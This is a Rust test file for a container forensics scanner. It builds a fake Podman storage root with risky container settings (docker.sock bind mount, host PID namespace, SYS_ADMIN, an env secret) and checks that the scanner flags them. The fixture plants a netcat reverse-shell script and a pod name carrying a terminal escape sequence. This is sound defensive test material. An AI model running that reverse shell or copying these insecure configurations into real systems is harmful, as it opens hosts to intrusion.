//! Podman and containerd data roots built in code: their containers become container records
//! (from the OCI runtime spec and libpod's SQLite state, read immutable), so the exposure
//! rules fire on them as on Docker's; the text report shows the data root, escaped; the
//! evidence is never written (no `-wal`/`-shm` beside `db.sql`), from a directory or a tar.

use std::path::Path;

use base64::Engine as _;
use serde_json::json;
use sha2::Digest;

use crate::util::{run, run_json, validate_against_schema, write_files};

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

const CID: &str = "cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc";
const LOWER: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const UPPER: &str = "2222222222222222222222222222222222222222222222222222222222222222";

/// A containers-storage root with one image, one container whose spec shares the host's
/// PID namespace, bind-mounts docker.sock and adds SYS_ADMIN without seccomp, and libpod's
/// state as `db.sql` (running, a published port, a pod, a volume with an escape in its name).
pub(crate) fn build(dir: &Path) -> String {
    let s = "var/lib/containers/storage";
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux", "config": {"Cmd": ["httpd"]},
        "rootfs": {"type": "layers", "diff_ids": [format!("sha256:{}", sha(b"x"))]},
    }))
    .unwrap();
    let image = sha(&config);
    let key = base64::engine::general_purpose::STANDARD.encode(format!("sha256:{image}"));
    let spec = json!({
        "process": {"args": ["httpd", "-f"], "env": ["PATH=/bin", "API_TOKEN=s3cr3t"], "user": {"uid": 0, "gid": 0},
            "cwd": "/", "capabilities": {"bounding": ["CAP_CHOWN", "CAP_KILL", "CAP_SYS_ADMIN"]}},
        "hostname": "web",
        "mounts": [
            {"destination": "/proc", "type": "proc", "source": "proc"},
            {"destination": "/var/run/docker.sock", "type": "bind", "source": "/run/docker.sock", "options": ["rbind"]},
            {"destination": "/etc/hosts", "type": "bind", "source": format!("/run/containers/storage/overlay-containers/{CID}/userdata/hosts")}
        ],
        "linux": {"namespaces": [{"type": "network"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}]}
    });
    let files: Vec<(String, Vec<u8>)> = vec![
        (
            format!("{s}/overlay-layers/layers.json"),
            serde_json::to_vec(&json!([{"id": LOWER, "diff-digest": format!("sha256:{}", sha(b"x"))},
                {"id": UPPER, "parent": LOWER}]))
            .unwrap(),
        ),
        (format!("{s}/overlay/{LOWER}/diff/bin/sh"), b"\x7fELF".to_vec()),
        (
            format!("{s}/overlay/{UPPER}/diff/tmp/.x/agent.sh"),
            b"#!/bin/sh\nnc 10.0.0.9 4444 -e sh\n".to_vec(),
        ),
        (
            format!("{s}/overlay-images/images.json"),
            serde_json::to_vec(&json!([{"id": image, "names": ["localhost/lab/web:1"], "layer": LOWER}]))
                .unwrap(),
        ),
        (format!("{s}/overlay-images/{image}/={key}"), config),
        (
            format!("{s}/overlay-containers/containers.json"),
            serde_json::to_vec(&json!([{"id": CID, "names": ["web"], "image": image, "layer": UPPER,
                "metadata": "{\"image-name\":\"localhost/lab/web:1\"}", "created": "2026-12-01T10:00:00Z"}]))
            .unwrap(),
        ),
        (format!("{s}/overlay-containers/{CID}/userdata/config.json"), serde_json::to_vec(&spec).unwrap()),
    ];
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir, &refs);
    std::fs::create_dir_all(dir.join(s).join("libpod")).unwrap();
    let db = rusqlite::Connection::open(dir.join(s).join("libpod/db.sql")).unwrap();
    db.execute_batch(&format!(
        r#"
        CREATE TABLE ContainerConfig(ID TEXT PRIMARY KEY NOT NULL, Name TEXT UNIQUE NOT NULL, PodID TEXT, JSON TEXT NOT NULL);
        CREATE TABLE ContainerState(ID TEXT PRIMARY KEY NOT NULL, State INTEGER NOT NULL, ExitCode INTEGER, JSON TEXT NOT NULL);
        CREATE TABLE PodConfig(ID TEXT PRIMARY KEY NOT NULL, Name TEXT UNIQUE NOT NULL, JSON TEXT NOT NULL);
        CREATE TABLE VolumeConfig(Name TEXT PRIMARY KEY NOT NULL, StorageID TEXT, JSON TEXT NOT NULL);
        INSERT INTO ContainerConfig VALUES ('{CID}', 'web', 'p1', '{{"id":"{CID}","name":"web","pod":"p1","privileged":false,"newPortMappings":[{{"host_ip":"","container_port":8080,"host_port":8081,"range":1,"protocol":"tcp"}}],"namedVolumes":[{{"volumeName":"data","dest":"/data"}}]}}');
        INSERT INTO ContainerState VALUES ('{CID}', 3, 0, '{{"state":3,"pid":4242,"startedTime":"2026-12-01T10:00:01Z"}}');
        INSERT INTO PodConfig VALUES ('p1', 'shop', '{{"id":"p1","name":"shop\u001b[31m"}}');
        INSERT INTO VolumeConfig VALUES ('data', NULL, '{{"name":"data","volumeDriver":"local"}}');
        "#
    ))
    .unwrap();
    drop(db);
    image
}

fn files_of(dir: &Path) -> Vec<String> {
    walkdir::WalkDir::new(dir)
        .sort_by_file_name()
        .into_iter()
        .map(|e| e.unwrap().path().display().to_string())
        .collect()
}

#[test]
fn a_podman_container_is_a_container_record_with_its_exposure() {
    let dir = tempfile::tempdir().unwrap();
    let image = build(dir.path());
    let before = files_of(dir.path());
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "critical findings, everything read");
    validate_against_schema(&v);
    assert_eq!(before, files_of(dir.path()), "nothing written beside the evidence (db.sql-wal, -shm)");
    let b = &v["bundles"][0];
    let c = b["containers"].as_array().unwrap().iter().find(|c| c["id"] == CID).expect("a container record");
    assert_eq!((c["name"].as_str(), c["source"].as_str()), (Some("web"), Some("libpod")));
    assert_eq!(c["image"], "localhost/lab/web:1");
    assert_eq!(c["image_id"], format!("sha256:{image}"));
    assert_eq!(
        (c["state"]["status"].as_str(), c["state"]["running"].as_bool()),
        (Some("running"), Some(true))
    );
    assert_eq!(c["host_config"]["pid_mode"], "host");
    // Only the user's bind: the runtime's own (/proc, /etc/hosts from userdata) are left out.
    let dests: Vec<&str> =
        c["mounts"].as_array().unwrap().iter().map(|m| m["destination"].as_str().unwrap()).collect();
    assert_eq!(dests, ["/var/run/docker.sock"]);
    let rules: Vec<&str> =
        b["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    for want in [
        "exposure.runtime-socket",
        "exposure.host-pid",
        "exposure.cap-add",
        "exposure.seccomp-unconfined",
        "exposure.public-ports",
        "exposure.env-secrets",
    ] {
        assert!(rules.contains(&want), "{want} not in {rules:?}");
    }
    assert!(!rules.contains(&"exposure.privileged"), "{rules:?}");
    // The plan acts on it with podman's CLI.
    let cmds: Vec<&str> = b["response_plan"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["commands"].as_array().unwrap().iter().filter_map(|c| c.as_str()))
        .collect();
    assert!(cmds.contains(&"podman pause web"), "{cmds:?}");
    assert!(!cmds.iter().any(|c| c.starts_with("docker ")), "{cmds:?}");
    let r = &b["data_root"]["containers_storage"][0];
    assert_eq!(r["state_db"], "var/lib/containers/storage/libpod/db.sql");
    assert_eq!(r["pods"][0]["name"], "shop\u{1b}[31m");
    assert_eq!(r["containers"][0]["running"], true);
    assert_eq!(r["volumes"][0]["used_by"], json!([CID]));
    // The text report: the data root section, every evidence string escaped.
    let out = run(&["scan", "--format", "text", dir.path().to_str().unwrap()]);
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("== Data roots (1) =="), "{text}");
    assert!(text.contains("state: var/lib/containers/storage/libpod/db.sql"), "{text}");
    assert!(text.contains("web (cccccccccccc) running, image localhost/lab/web:1"), "{text}");
    assert!(text.contains("pods (1):"), "{text}");
    assert!(!text.contains('\u{1b}'), "an escape from the evidence reached the terminal");
}

#[test]
fn a_tar_of_a_podman_root_reads_db_sql_through_a_private_copy() {
    let dir = tempfile::tempdir().unwrap();
    build(dir.path());
    let tar = dir.path().join("root.tar");
    let st = std::process::Command::new("tar")
        .args(["--sort=name", "-cf"])
        .arg(&tar)
        .arg("-C")
        .arg(dir.path())
        .arg("var")
        .status()
        .unwrap();
    assert!(st.success());
    let (v, _) = run_json(&["scan", tar.to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let c = b["containers"].as_array().unwrap().iter().find(|c| c["id"] == CID).unwrap();
    assert_eq!(c["state"]["status"], "running");
    let rules: Vec<&str> =
        b["findings"].as_array().unwrap().iter().filter_map(|f| f["rule"].as_str()).collect();
    assert!(rules.contains(&"exposure.runtime-socket"), "{rules:?}");
}
